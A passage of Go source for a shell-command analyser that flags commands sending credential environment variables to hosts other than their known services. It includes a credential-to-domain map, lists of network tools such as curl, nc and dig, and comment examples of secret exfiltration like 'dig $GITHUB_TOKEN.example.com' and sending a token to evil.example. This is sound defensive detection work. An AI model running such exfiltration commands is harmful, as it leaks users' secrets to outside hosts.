package hardline

import (
	"encoding/json"
	"fmt"
	"net/netip"
	"path"
	"regexp"
	"slices"
	"strings"

	"github.com/toolgate/toolgate/internal/hostaddr"
	"github.com/toolgate/toolgate/internal/randtoken"
	"github.com/toolgate/toolgate/internal/words"
	"mvdan.cc/sh/v3/syntax"
)

// A credential the shell's environment holds (GITHUB_TOKEN,
// AWS_SECRET_ACCESS_KEY, an API key) is meant for one service. A command
// that sends its value to a host that is not that service's, or to a host
// the analyser cannot read, hands the secret to someone else as surely as
// reading ~/.aws/credentials into a request does. Such a command asks
// (secret-egress; see docs/security-model.md, Hardline): the value goes
//
//   - in the arguments or standard input of a program that sends what it
//     is given to another host (curl, wget, nc, ssh, mail, ...), whatever
//     the program's destination, unless every destination it names is a
//     home of every credential it carries;
//   - inside a URL any program is given (git clone
//     https://$GITHUB_TOKEN@host/..., pip --index-url
//     https://u:$PYPI_TOKEN@host/...), unless that URL's host is a home.
//
// A credential is an environment variable whose name says so (TOKEN,
// SECRET, PASSWORD, API_KEY, ...) and that the script did not assign
// itself, or a variable the script assigned from one, or a credential
// written out in the command's text (see literalMark). Homes are known for
// the well-known names only; any other credential has none, and sending
// it anywhere asks.

// credentialHomes are the hosts that well-known credentials belong to: a
// destination is a home when it is one of them or a name under one.
var credentialHomes = map[string][]string{
	"GITHUB_TOKEN": {"github.com", "githubusercontent.com", "ghcr.io"}, "GH_TOKEN": {"github.com", "githubusercontent.com", "ghcr.io"},
	"GITHUB_PAT": {"github.com", "githubusercontent.com", "ghcr.io"}, "GH_PAT": {"github.com", "githubusercontent.com", "ghcr.io"},
	"GITHUB_API_TOKEN": {"github.com", "githubusercontent.com"}, "GITHUB_ACCESS_TOKEN": {"github.com", "githubusercontent.com"},
	"GITLAB_TOKEN": {"gitlab.com"}, "GITLAB_PRIVATE_TOKEN": {"gitlab.com"}, "GL_TOKEN": {"gitlab.com"}, "CI_JOB_TOKEN": {"gitlab.com"},
	"NPM_TOKEN": {"npmjs.org", "npmjs.com", "npm.pkg.github.com"}, "NODE_AUTH_TOKEN": {"npmjs.org", "npmjs.com", "npm.pkg.github.com"},
	"PYPI_TOKEN": {"pypi.org"}, "PYPI_API_TOKEN": {"pypi.org"}, "TWINE_PASSWORD": {"pypi.org"},
	"CARGO_REGISTRY_TOKEN": {"crates.io"}, "GEM_HOST_API_KEY": {"rubygems.org"},
	"OPENAI_API_KEY": {"openai.com"}, "ANTHROPIC_API_KEY": {"anthropic.com"}, "CLAUDE_API_KEY": {"anthropic.com"},
	"GEMINI_API_KEY": {"googleapis.com"}, "GOOGLE_API_KEY": {"googleapis.com"}, "MISTRAL_API_KEY": {"mistral.ai"},
	"GROQ_API_KEY": {"groq.com"}, "COHERE_API_KEY": {"cohere.com", "cohere.ai"}, "REPLICATE_API_TOKEN": {"replicate.com"},
	"TOGETHER_API_KEY": {"together.xyz", "together.ai"}, "DEEPSEEK_API_KEY": {"deepseek.com"}, "OPENROUTER_API_KEY": {"openrouter.ai"},
	"PERPLEXITY_API_KEY": {"perplexity.ai"}, "XAI_API_KEY": {"x.ai"},
	"HF_TOKEN": {"huggingface.co", "hf.co"}, "HUGGINGFACE_TOKEN": {"huggingface.co", "hf.co"},
	"HUGGING_FACE_HUB_TOKEN": {"huggingface.co", "hf.co"}, "HUGGINGFACEHUB_API_TOKEN": {"huggingface.co", "hf.co"},
	"AWS_SECRET_ACCESS_KEY": {"amazonaws.com", "amazonaws.com.cn"}, "AWS_SESSION_TOKEN": {"amazonaws.com", "amazonaws.com.cn"},
	"SLACK_TOKEN": {"slack.com"}, "SLACK_BOT_TOKEN": {"slack.com"}, "SLACK_API_TOKEN": {"slack.com"}, "SLACK_WEBHOOK_URL": {"slack.com"},
	"DISCORD_TOKEN": {"discord.com", "discordapp.com"}, "DISCORD_WEBHOOK_URL": {"discord.com", "discordapp.com"},
	"CLOUDFLARE_API_TOKEN": {"cloudflare.com"}, "CLOUDFLARE_API_KEY": {"cloudflare.com"}, "CF_API_TOKEN": {"cloudflare.com"},
	"DIGITALOCEAN_TOKEN": {"digitalocean.com"}, "DIGITALOCEAN_ACCESS_TOKEN": {"digitalocean.com"},
	"STRIPE_SECRET_KEY": {"stripe.com"}, "STRIPE_API_KEY": {"stripe.com"}, "SENTRY_AUTH_TOKEN": {"sentry.io"},
	"DOCKERHUB_TOKEN": {"docker.com", "docker.io"}, "DOCKER_PASSWORD": {"docker.com", "docker.io"},
	"CODECOV_TOKEN": {"codecov.io"}, "VERCEL_TOKEN": {"vercel.com"}, "NETLIFY_AUTH_TOKEN": {"netlify.com"},
	"HEROKU_API_KEY": {"heroku.com"}, "CIRCLE_TOKEN": {"circleci.com"}, "CIRCLECI_TOKEN": {"circleci.com"},
	"TWILIO_AUTH_TOKEN": {"twilio.com"}, "SENDGRID_API_KEY": {"sendgrid.com"}, "MAILGUN_API_KEY": {"mailgun.net"},
	"DATADOG_API_KEY": {"datadoghq.com", "datadoghq.eu"}, "DD_API_KEY": {"datadoghq.com", "datadoghq.eu"},
	"LINEAR_API_KEY": {"linear.app"}, "NOTION_TOKEN": {"notion.com", "notion.so"},
}

// credentialMarks are the parts of a variable's name (in upper case) that
// say it holds a credential.
var credentialMarks = newMarkers("TOKEN", "SECRET", "PASSWORD", "PASSWD", "PASSPHRASE", "APIKEY", "API_KEY", "ACCESS_KEY",
	"PRIVATE_KEY", "CREDENTIAL", "AUTH_KEY", "SESSION_KEY", "SIGNING_KEY", "MASTER_KEY", "ENCRYPTION_KEY", "WEBHOOK", "DATABASE_URL", "_DSN",
	"JWT", "COOKIE", "BEARER", "CONNECTION_STRING", "CONN_STR", "CONNSTR",
	// A kubeconfig's or a registry login's text (KUBECONFIG alone is a path).
	"KUBE_CONFIG_DATA", "KUBECONFIG_DATA", "KUBECONFIG_B64", "KUBECONFIG_BASE64", "DOCKER_CONFIG_JSON", "DOCKERCONFIGJSON")

// serviceURLWords are words of a variable's name ending in _URL or _URI
// that say the value is a database's or a broker's address, which
// carries its user and password (MONGO_URI, REDIS_URL, POSTGRES_URL).
var serviceURLWords = map[string]bool{"DATABASE": true, "DB": true, "MONGO": true, "MONGODB": true, "REDIS": true, "POSTGRES": true,
	"POSTGRESQL": true, "PG": true, "MYSQL": true, "MARIADB": true, "MSSQL": true, "SQL": true, "AMQP": true, "RABBITMQ": true,
	"KAFKA": true, "ELASTICSEARCH": true, "OPENSEARCH": true, "CLICKHOUSE": true, "NEO4J": true, "CASSANDRA": true, "COUCHDB": true,
	"NATS": true, "MEMCACHED": true, "BROKER": true, "CACHE": true, "QUEUE": true, "COCKROACH": true, "INFLUXDB": true, "LIBSQL": true}

// notCredentialEnds are name endings of variables that say where a
// credential is or what it is called, not what it is.
var notCredentialEnds = []string{"_FILE", "_PATH", "_DIR", "_NAME", "_ID", "_TYPE", "_URL_FILE", "_EXPIRY", "_EXPIRES", "_EXPIRES_AT", "_TTL", "_LENGTH", "_HEADER"}

// isCredential reports whether an environment variable holds a
// credential: the configuration names it, or its name says so.
func (a *Analyzer) isCredential(name string) bool {
	if _, ok := a.credentials[name]; ok {
		return true
	}
	if len(name) > 64 {
		return credentialName(name)
	}
	if v, ok := a.credNames.Load(name); ok {
		return v.(bool)
	}
	is := credentialName(name)
	if a.credNameCount.Load() < maxCredNames {
		if _, loaded := a.credNames.LoadOrStore(strings.Clone(name), is); !loaded {
			a.credNameCount.Add(1)
		}
	}
	return is
}

// maxCredNames bounds the variable names an Analyzer remembers the answer
// of isCredential for.
const maxCredNames = 4096

// homes returns the hosts a credential belongs to: built in for the
// well-known names, else configured.
func (a *Analyzer) homes(name string) []string {
	if rest, ok := strings.CutPrefix(name, literalMark); ok {
		home, _, _ := strings.Cut(rest, literalMark)
		return credentialHomes[home]
	}
	if h, ok := credentialHomes[name]; ok {
		return h
	}
	return a.credentials[name]
}

// addCredentials checks and records the configured credentials.
func (a *Analyzer) addCredentials(cs []Credential) []error {
	var errs []error
	for i, c := range cs {
		if !isShellName(c.Env) {
			errs = append(errs, fmt.Errorf("hardline: Config.Credentials[%d].Env %q is not a variable name", i, c.Env))
			continue
		}
		if _, ok := credentialHomes[c.Env]; ok && len(c.Hosts) > 0 {
			errs = append(errs, fmt.Errorf("hardline: Config.Credentials[%d].Hosts: %s belongs to %s, built in; it cannot be given other hosts",
				i, c.Env, strings.Join(credentialHomes[c.Env], ", ")))
			continue
		}
		hosts := []string{}
		for j, h := range c.Hosts {
			if !isHostName(h) {
				errs = append(errs, fmt.Errorf("hardline: Config.Credentials[%d].Hosts[%d] %q is not a host name (lower case, no scheme, port or path)", i, j, h))
				continue
			}
			hosts = append(hosts, h)
		}
		if a.credentials == nil {
			a.credentials = map[string][]string{}
		}
		a.credentials[c.Env] = append(a.credentials[c.Env], hosts...)
	}
	return errs
}

// isShellName reports whether s is a shell variable's name.
func isShellName(s string) bool {
	for i, c := range s {
		if !(c == '_' || 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || i > 0 && '0' <= c && c <= '9') {
			return false
		}
	}
	return s != ""
}

// isHostName reports whether s is a host name as destinations compares
// them: lower-case labels of letters, digits and hyphens, or an IP
// address.
func isHostName(s string) bool {
	if _, err := netip.ParseAddr(s); err == nil {
		return true
	}
	if s == "" || len(s) > 253 {
		return false
	}
	for _, l := range strings.Split(s, ".") {
		if l == "" || len(l) > 63 || l[0] == '-' || l[len(l)-1] == '-' {
			return false
		}
		for _, c := range l {
			if !('a' <= c && c <= 'z' || '0' <= c && c <= '9' || c == '-') {
				return false
			}
		}
	}
	return true
}

// credentialName reports whether an environment variable's name says it
// holds a credential.
func credentialName(name string) bool {
	if _, ok := credentialHomes[name]; ok {
		return true
	}
	u := strings.ToUpper(name)
	if strings.Contains(u, "PUBLIC") || strings.HasPrefix(u, "NO_") {
		return false
	}
	if strings.HasSuffix(u, "SESSION_ID") || strings.HasSuffix(u, "SESSIONID") || strings.HasSuffix(u, "SESSID") {
		return true // a session's identifier is its login (PHPSESSID, the _ID end below notwithstanding)
	}
	for _, e := range notCredentialEnds {
		if strings.HasSuffix(u, e) && !strings.HasSuffix(u, "SECRET_ID") {
			return false // VAULT_SECRET_ID is AppRole's password, not a name
		}
	}
	if strings.HasSuffix(u, "_PAT") || strings.HasSuffix(u, "_KEY") || strings.HasSuffix(u, "_PASS") || strings.HasSuffix(u, "_PWD") && u != "OLD_PWD" ||
		strings.HasSuffix(u, "_SK") || strings.HasSuffix(u, "_AUTH") || u == "AUTH" || u == "DSN" || u == "PAT" ||
		// An Azure shared access signature is a key for a while; a
		// one-time password's seed every code it makes.
		strings.HasSuffix(u, "_SAS") || u == "SAS" || strings.HasSuffix(u, "OTP_SEED") || strings.HasSuffix(u, "MFA_SEED") {
		return true
	}
	for w := range strings.SplitSeq(u, "_") {
		if w == "AUTH" || w == "PASS" || w == "CREDS" || w == "CRED" {
			return true // DOCKER_AUTH_CONFIG, SMTP_PASS_PLAIN, GOOGLE_CREDS
		}
	}
	if strings.HasSuffix(u, "_URL") || strings.HasSuffix(u, "_URI") {
		for w := range strings.SplitSeq(u[:len(u)-len("_URL")], "_") {
			if serviceURLWords[w] {
				return true
			}
		}
	}
	if holdsAny(u, credentialMarks) {
		return true
	}
	// The name's words, read as a file's name is (see credname.go), so
	// that camelCase and run-together words count too
	// (ORG_GRADLE_PROJECT_signingKey, TS_AUTHKEY, SEED_PHRASE).
	var cur, prev [32]byte
	n, pn := 0, 0
	for w := range words.All(name) {
		n = copy(cur[:], w)
		if n < len(w) {
			n = 0 // longer than any word the lists hold
		}
		asciiLowerInPlace(cur[:n])
		if credentialEnvWords[string(cur[:n])] || pn > 0 && credentialPairIndex[string(prev[:pn])][string(cur[:n])] {
			return true
		}
		prev, pn = cur, n
	}
	// A vault's unlocked session is its key: BW_SESSION, OP_SESSION_my,
	// FASTLANE_SESSION (DESKTOP_SESSION and XDG_SESSION_TYPE name a
	// desktop).
	return strings.HasSuffix(u, "_SESSION") && u != "DESKTOP_SESSION" || strings.HasPrefix(u, "OP_SESSION_")
}

// credentialPairIndex is credentialPairs by first word, for lookups that
// do not build a key.
var credentialPairIndex = func() map[string]map[string]bool {
	m := map[string]map[string]bool{}
	for p := range credentialPairs {
		if m[p[0]] == nil {
			m[p[0]] = map[string]bool{}
		}
		m[p[0]][p[1]] = true
	}
	return m
}()

// asciiLowerInPlace lowers the ASCII letters of b.
func asciiLowerInPlace(b []byte) {
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
}

// credentialEnvWords are words of a variable's name, beside
// credentialMarks, that say it holds a credential.
var credentialEnvWords = map[string]bool{"authkey": true, "privkey": true, "mnemonic": true, "macaroon": true, "pgpass": true,
	"keystore": true, "totp": true}

// credentials appends to names the credentials whose values n carries:
// expansions of credential variables (in command substitutions too) and
// printenv NAME of one.
func (r *run) credentials(sc *scope, n syntax.Node, names []string) []string {
	if n == nil {
		return names
	}
	if w, ok := n.(*syntax.Word); ok && !expands(w.Parts) {
		// Literal text carries no variable's value, but may carry a
		// credential written out.
		return wordCredentials(w, names)
	}
	walkTree(n, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.Word:
			names = wordCredentials(n, names)
		case *syntax.ParamExp:
			switch {
			case n.Param == nil:
			case !n.Excl:
				if c := r.credential(sc, n.Param.Value, n.Pos().Offset()); c != "" {
					names = append(names, c)
				}
			case n.Names == 0 && n.Index == nil:
				// ${!ref}: the value of the variable ref names, a
				// credential when ref's known value is one's name, and
				// perhaps one when ref is not known.
				v, ok := sc.lookup(n.Param.Value, n.Pos().Offset())
				if !ok {
					v = "{!" + n.Param.Value + "}" // reported as ${!ref}
				}
				if !ok || r.credential(sc, v, n.Pos().Offset()) != "" {
					names = append(names, v)
				}
			}
		case *syntax.CallExpr:
			if len(n.Args) > 1 && n.Args[0].Lit() == "printenv" {
				// printenv NAME prints an exported variable: a credential,
				// or one the script assigned from one (export T=$TOKEN).
				for _, w := range n.Args[1:] {
					if c := r.credential(sc, w.Lit(), w.Pos().Offset()); c != "" {
						names = append(names, c)
					}
				}
			}
			if len(n.Args) > 0 && readsClipboard(n) {
				// pbpaste | curl -d @- URL: the clipboard holds what a
				// person copied, a password from a manager among it.
				names = append(names, clipboardMark)
			}
			if len(n.Args) > 1 && printsFiles(base(n.Args[0].Lit())) {
				// cat t, base64 t of a file this command filled with a
				// credential, or cat .env, prints it ($(cat t), x=$(head
				// .env)).
				for _, w := range n.Args[1:] {
					names = r.heldFile(w.Lit(), names)
				}
			}
		case *syntax.Redirect:
			if (n.Op == syntax.RdrIn || n.Op == syntax.RdrInOut) && (n.N == nil || n.N.Value == "0") {
				names = r.heldFile(n.Word.Lit(), names) // $(< t), read x < .env
			}
		}
		return true
	})
	return names
}

// listFiles are, per program, the options that name a file of names or
// URLs it looks up or fetches one line at a time: what the file holds
// leaves the machine in the requests (dig -f .env).
var listFiles = map[string][]string{"dig": {"-f"}, "kdig": {"-f"}, "wget": {"-i", "--input-file"}, "wget2": {"-i", "--input-file"},
	"aria2c": {"-i", "--input-file"}, "nmap": {"-iL"}, "masscan": {"-iL", "--includefile"}, "fping": {"-f", "--file"},
	"httpx": {"-l", "-list"}, "nuclei": {"-l", "-list"}}

// heldFile appends to names the credential the file named v (a literal
// word's text) holds: one this command filled with a credential (echo
// "$T" > t; see noteSecretOuts), or one whose name says it holds one
// (.env: see fileMark).
func (r *run) heldFile(v string, names []string) []string {
	if v == "" || strings.HasPrefix(v, "-") {
		return names
	}
	if len(r.written) > 0 {
		if held, _, ok := r.writtenAt(field{val: v}); ok && held.secret != "" {
			return append(names, held.secret)
		}
	}
	if _, ok := r.credentialFileOf(field{val: v}); ok {
		names = append(names, fileMark+v)
	}
	return names
}

// credentialFileOf is credentialFile for the file f names as the command
// leaves it: by its own name, or the name of the file on disk the command
// copied, moved or linked to it (cp .env x.txt, ln -s .env x.txt).
func (r *run) credentialFileOf(f field) (string, bool) {
	if why, ok := r.a.credentialFile(f.val); ok || f.dyn {
		return why, ok
	}
	if src, ok := r.copiedFrom(f); ok {
		return r.a.credentialFile(src)
	}
	return "", false
}

// expandsAny reports whether any of words holds an expansion (see expands).
func expandsAny(words []*syntax.Word) bool {
	return slices.ContainsFunc(words, func(w *syntax.Word) bool { return expands(w.Parts) })
}

// expands reports whether word parts hold an expansion: a parameter, a
// command or process substitution, an arithmetic expansion.
func expands(parts []syntax.WordPart) bool {
	for _, p := range parts {
		switch p := p.(type) {
		case *syntax.Lit, *syntax.SglQuoted:
		case *syntax.DblQuoted:
			if expands(p.Parts) {
				return true
			}
		default:
			return true
		}
	}
	return false
}

// credential returns the credential a variable holds at offset pos: the
// variable itself when the environment gives it and its name says so,
// the one it was assigned from when the script assigned it, else "".
func (r *run) credential(sc *scope, name string, pos uint) string {
	if d, ok := sc.vars[name]; ok {
		if d.secret != "" {
			return d.secret
		}
		if !d.tainted && pos >= d.after {
			return "" // a value the script set, which its text shows
		}
	}
	if _, ok := sc.inherit[name]; ok {
		return "" // a value the enclosing script set and the analyser knows
	}
	if r.a.isCredential(name) {
		return name
	}
	return ""
}

// urlPrograms are the network senders whose operands are URLs (or hosts
// and paths): the only ones whose destinations the analyser reads. An
// ssh, nc or mail destination is taken as not known: a host alias, a raw
// connection or a mailbox is no credential's home.
var urlPrograms = map[string]bool{"curl": true, "wget": true, "http": true, "https": true, "xh": true, "xhs": true, "curlie": true, "httpie": true, "websocat": true}

// nameLookups are programs that look a name up in DNS (or send it to a
// host named by it): the name's text leaves the machine.
var nameLookups = map[string]bool{"nslookup": true, "dig": true, "host": true, "drill": true, "kdig": true, "delv": true,
	"ping": true, "ping6": true, "traceroute": true, "traceroute6": true, "tracepath": true, "mtr": true, "whois": true,
	"getent": true, "resolvectl": true, "avahi-resolve": true, "fping": true, "hping3": true, "arping": true}

// elsewhere are the options and environment variables that send a URL
// program's request somewhere other than the URL's host, or take URLs
// from elsewhere: its destinations are then not known.
var elsewhere = map[string]bool{
	"curl --resolve": true, "curl --connect-to": true, "curl -x": true, "curl --proxy": true, "curl --preproxy": true,
	"curl --socks4": true, "curl --socks4a": true, "curl --socks5": true, "curl --socks5-hostname": true, "curl --dns-servers": true,
	"curl --doh-url": true, "curl -K": true, "curl --config": true, "curl --location-trusted": true, "curl --unix-socket": true,
	"curl --abstract-unix-socket": true, "curl --proxy1.0": true,
	"wget -e": true, "wget --execute": true, "wget -i": true, "wget --input-file": true, "wget -B": true, "wget --base": true,
	"wget --config": true,
	"http --proxy":  true, "https --proxy": true, "xh --proxy": true, "xh --resolve": true, "xh --unix-socket": true,
	// the environment, for every URL program
	"http_proxy": true, "https_proxy": true, "HTTP_PROXY": true, "HTTPS_PROXY": true, "ALL_PROXY": true, "all_proxy": true,
	"CURL_HOME": true, "WGETRC": true, "XDG_CONFIG_HOME": true, "HTTPIE_CONFIG_DIR": true,
}

// itemRunners run a command with items from their input added to it.
var itemRunners = map[string]bool{"xargs": true, "parallel": true, "rush": true, "gargs": true, "xe": true}

// elsewhereEnv are the environment variables among elsewhere (the keys
// that name no program).
var elsewhereEnv = func() []string {
	var names []string
	for k := range elsewhere {
		if !strings.Contains(k, " ") {
			names = append(names, k)
		}
	}
	slices.Sort(names)
	return names
}()

// secretEgress judges a simple command that may send a credential to
// another host (see the comment at the top of this file). fs are call's
// words expanded, inner those of the program a wrapper among them runs
// (innerCommand).
func (r *run) secretEgress(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs, inner []field, cmd string) {
	if len(inner) < len(fs) && len(fs) == len(call.Args) {
		// A wrapper's command (env curl, sudo nc, timeout 5 dig): judged
		// as the program it runs, with the words from that program on.
		k := len(fs) - len(inner)
		inCall := *call
		inCall.Args = call.Args[k:]
		// env NAME=VALUE CMD gives CMD the variable as an assignment
		// before it would (env https_proxy=... curl ...).
		for _, f := range fs[1:k] {
			if name, _, ok := strings.Cut(f.val, "="); ok && !f.dyn && isName(name) {
				inCall.Assigns = append(slices.Clip(inCall.Assigns), &syntax.Assign{Name: &syntax.Lit{Value: name}})
			}
		}
		if base(fs[0].val) == "sshpass" {
			// sshpass types the password it is given (-p, or SSHPASS for
			// -e) at the prompt of the program it runs: it goes to that
			// program's host (USER@HOST, HOST:PORT), or to a host not
			// known when none is read.
			names := r.sentCredentials(sc, s, call, fs)
			for _, as := range call.Assigns {
				if as.Value != nil && as.Name != nil && as.Name.Value == "SSHPASS" {
					names = r.credentials(sc, as.Value, names)
				}
			}
			if len(names) > 0 {
				hosts := hostWords(inner[1:])
				if len(hosts) == 0 || len(slices.DeleteFunc(hosts, r.a.thisMachine)) > 0 {
					r.judgeEgress("sshpass", names, hosts, cmd)
				}
			}
		}
		call, fs = &inCall, inner
	}
	b := base(fs[0].val)
	if networkSenders[b] || stdinSenders[b] || fileUploaders[b] {
		r.credentialFileSent(sc, s, call, fs, cmd)
	}
	if b == "gh" {
		r.ghPublished(sc, s, call, fs, cmd)
	}
	if host, ok := npmAuthHost(b, fs); ok {
		// npm config set //HOST/:_authToken $T: npm sends it to HOST on
		// every later install from there.
		if names := r.sentCredentials(sc, s, call, fs); len(names) > 0 {
			r.judgeEgress(b, names, []string{host}, cmd)
		}
	}
	if fileUploaders[b] && slices.ContainsFunc(sentFiles(b, fs[1:]), func(f field) bool { return !f.dyn && isStdin(f.val) }) {
		// An upload of the standard input (aws s3 cp - s3://b/k <<<
		// "$T", gh gist create - , echo "$T" | rclone rcat r:x): what the
		// input holds goes to the bucket, gist or remote, another
		// tenant's whatever host serves it.
		if names := r.inputCredentials(sc, s, nil); len(names) > 0 {
			r.judgeEgress(b, names, nil, cmd)
		}
	}
	if hc, ok := hostClients[b]; ok {
		r.clientEgress(sc, s, call, fs, hc, cmd)
	}
	r.publishedPackage(b, fs[1:], cmd)
	if r.mayUpload(b) || b == "aws" && awsService(fs[1:]) != "s3" {
		// (The AWS CLI's other services send what they are given too:
		// aws sns publish --message file://.env.)
		r.uploadedCredentialFile(sc, call, fs, cmd)
	}
	if itemRunners[b] {
		// xargs curl -d "$T" <<< URL: the program is given items the
		// command does not show, so where it sends is not known.
		for _, f := range fs[1:] {
			if nb := base(f.val); !f.dyn && (networkSenders[nb] || nameLookups[nb] || urlPrograms[nb]) {
				r.judgeEgress(nb, r.sentCredentials(sc, s, call, fs), nil, cmd)
				return
			}
		}
	}
	if len(listFiles[b]) > 0 && !networkSenders[b] && !nameLookups[b] {
		// nmap -iL FILE, httpx -l FILE: every line is a host it reaches.
		r.judgeEgress(b, r.sentCredentials(sc, s, call, fs), nil, cmd)
		return
	}
	if nameLookups[b] {
		// The name looked up goes to DNS servers (or a host's resolver)
		// whatever it holds: a credential in it leaves the machine
		// (dig $GITHUB_TOKEN.example.com).
		r.judgeEgress(b, r.sentCredentials(sc, s, call, fs), nil, cmd)
		return
	}
	if names := r.credentialHostNames(sc, call); len(names) > 0 && !urlPrograms[b] && !networkSenders[b] && !r.printsOnly(b) {
		// Any program that resolves a host name sends it to DNS servers
		// (ntpdate $GITHUB_TOKEN.example.com, snmptrap, ssh, psql -h):
		// a name built from a credential leaves the machine.
		r.judgeEgress(b, names, nil, cmd)
		return
	}
	if names := r.containerCredentials(sc, b, call, fs); len(names) > 0 {
		r.judgeEgress(b, names, nil, cmd)
		return
	}
	if names := r.handedCredentials(b, fs); len(names) > 0 {
		r.judgeEgress(b, names, nil, cmd)
		return
	}
	if b == "git" {
		// git sends what its network sub-commands are given to the
		// remote: a header (-c http.extraHeader=...), a URL's user.
		if hosts, ok := gitRemote(call, fs); ok {
			if names := r.sentCredentials(sc, s, call, fs); len(names) > 0 {
				r.judgeEgress(b, names, hosts, cmd)
				return
			}
		}
	}
	if !networkSenders[b] {
		// A URL's literal text is in its field too (the parts not known
		// are empty there): most commands hold none.
		if slices.ContainsFunc(fs[1:], func(f field) bool { return strings.Contains(f.val, "://") }) {
			r.credentialURLs(sc, call, cmd)
			if r.unknownProgram(b) && len(fs) == len(call.Args) {
				// A program the catalogue does not know, given a
				// credential and a URL, may send one to the other
				// (mytool --token "$GITHUB_TOKEN" --url https://host):
				// judged as a sender to the URLs' hosts.
				if names := r.sentCredentials(sc, s, call, fs); len(names) > 0 {
					r.judgeEgress(b, names, urlHosts(call, fs), cmd)
				}
			}
		} else if r.unknownProgram(b) && len(fs) == len(call.Args) {
			// So is one given a host without a URL (mytool "$T"
			// evil.example, --server evil.example).
			if hosts := slices.DeleteFunc(hostWords(fs[1:]), r.a.thisMachine); len(hosts) > 0 {
				if names := r.sentCredentials(sc, s, call, fs); len(names) > 0 {
					r.judgeEgress(b, names, hosts, cmd)
				}
			}
		}
		return
	}
	names := r.sentCredentials(sc, s, call, fs)
	if b == "curl" {
		names = r.curlVariables(sc, call, fs, names)
	}
	if len(names) == 0 {
		return
	}
	r.judgeEgress(b, names, r.destinations(sc, b, call, fs), cmd)
}

// hostOptionParts are the parts of a long option's name that say its
// value names a host (--host, --server-url, --api-endpoint, --addr).
var hostOptionParts = []string{"host", "server", "endpoint", "addr", "domain", "remote", "url"}

// hostWords returns the hosts a program's words name without a URL (see
// secretEgress): the value of a long option whose name says it names one
// (hostOptionParts), and an operand that is an address (203.0.113.5,
// [2001:db8::1]), a HOST:PORT, a USER@HOST, or a dotted name under a
// top-level domain that hosts have (hostTLDs). A file of that name may be
// there, put by an earlier command: the program may take the word for a
// host all the same, so the name is not looked up.
func hostWords(args []field) (hosts []string) {
	add := func(h string) {
		if h = hostName(h); h != "" && isHostName(h) && !slices.Contains(hosts, h) {
			hosts = append(hosts, h)
		}
	}
	for i := 0; i < len(args); i++ {
		a := args[i]
		if a.dyn {
			continue
		}
		v := a.val
		if name, ok := strings.CutPrefix(v, "--"); ok {
			name, value, attached := strings.Cut(name, "=")
			if !slices.ContainsFunc(hostOptionParts, func(p string) bool { return strings.Contains(asciiLower(name), p) }) {
				continue
			}
			if !attached {
				if i+1 >= len(args) || args[i+1].dyn {
					continue
				}
				i++
				value = args[i].val
			}
			if h, ok := serverHost(field{val: value}); ok && !isDigits(h) {
				add(h) // (not a port: --remote-debugging-port 9222)
			}
			continue
		}
		if strings.HasPrefix(v, "-") {
			continue
		}
		if j := strings.IndexByte(v, '/'); j >= 0 {
			// A path, but for USER@HOST:PATH (scp's and git's form).
			head := v[:j]
			at, colon := strings.IndexByte(head, '@'), strings.LastIndexByte(head, ':')
			if at < 0 || colon < at {
				continue
			}
			v = head[:colon]
		}
		user, h := userHost(v)
		port := ""
		if j := strings.LastIndexByte(h, ':'); j > 0 && !strings.Contains(h[:j], ":") {
			h, port = h[:j], h[j+1:]
		}
		last := h[strings.LastIndexByte(h, '.')+1:]
		switch {
		case h != "" && ('0' <= h[0] && h[0] <= '9' || strings.IndexByte(h, ':') >= 0) && isAddr(h):
			add(h)
		case user != "" || port != "" && isDigits(port):
			if !isDigits(last) { // (not NAME@1.2.3, a version)
				add(h)
			}
		case strings.Contains(h, ".") && hostTLDs[last]:
			add(h)
		}
	}
	return hosts
}

// isAddr reports whether s is an IP address.
func isAddr(s string) bool {
	_, err := netip.ParseAddr(s)
	return err == nil
}

// hostTLDs are top-level domains (lower case) under which a dotted word is
// read as a host by hostWords: the generic ones hosts are named under, the
// names kept for examples, tests and private networks, and the country
// codes that are not also common file extensions (.sh, .py, .md, .rs,
// .pl, .ml, .cl, .la, .nu, .pt, .pro, .cc, .so, .am, .in, .ps, .zip and
// .mov are left out: a file of one is named far more often than a host).
var hostTLDs = setOf("com", "net", "org", "edu", "gov", "mil", "int", "io", "dev", "app", "ai", "co", "me", "info", "biz", "xyz", "site",
	"online", "tech", "cloud", "club", "top", "icu", "live", "store", "shop", "link", "click", "space", "website", "fun", "host",
	"digital", "network", "systems", "email", "run", "page", "wiki", "blog", "news", "example", "test", "invalid", "local",
	"internal", "lan", "corp", "home", "localdomain", "onion", "arpa", "ly", "gg", "to", "tk", "ga", "cf", "gq", "tv", "ws",
	"fm", "ru", "cn", "jp", "de", "uk", "fr", "nl", "br", "au", "ca", "ch", "se", "no", "es", "it", "eu", "us", "kr",
	"ir", "ua", "by", "kz", "tr", "vn", "id", "th", "my", "sg", "hk", "tw", "nz", "za", "mx", "ar", "be", "at", "dk", "fi", "cz",
	"sk", "hu", "ro", "bg", "gr", "ie", "il", "sa", "ae", "pk", "ng", "ke", "su")

// curlVariables appends to names the credentials curl (8.3 and later)
// imports from its environment as its own variables: --variable %NAME
// (or %NAME=DEFAULT, %NAME@FILE) reads $NAME, which --expand-data,
// --expand-url, --expand-header and the other --expand- options then
// send as {{NAME}}. A credential imported is taken as given to curl,
// whether or not an expansion shows it being used.
func (r *run) curlVariables(sc *scope, call *syntax.CallExpr, fs []field, names []string) []string {
	for i, f := range fs {
		v, ok := strings.CutPrefix(f.val, "--variable=")
		if !ok && f.val == "--variable" && i+1 < len(fs) {
			v, ok = fs[i+1].val, true
		}
		if !ok || !strings.HasPrefix(v, "%") {
			continue
		}
		name := v[1:]
		if j := strings.IndexAny(name, "=@"); j >= 0 {
			name = name[:j]
		}
		// A variable the command's own assignment gives curl
		// (T=$TOKEN curl --variable %T ...) holds what it is assigned.
		for _, as := range call.Assigns {
			if as.Name != nil && as.Name.Value == name {
				names = r.credentials(sc, as.Value, names)
			}
		}
		if c := r.credential(sc, name, call.Pos().Offset()); c != "" {
			names = append(names, c)
		}
	}
	return names
}

// handedCredentials returns the credentials from the environment a
// command hands on to the other side of an ssh connection (ssh -o
// SendEnv=NAME, a pattern of names included), whose server may be any
// host. (A container's program given one with docker run -e is the
// project's own to run: allowed, as the corpus's everyday forms say.)
func (r *run) handedCredentials(b string, fs []field) []string {
	if b != "ssh" && b != "autossh" {
		return nil
	}
	var names []string
	for _, f := range fs[1:] {
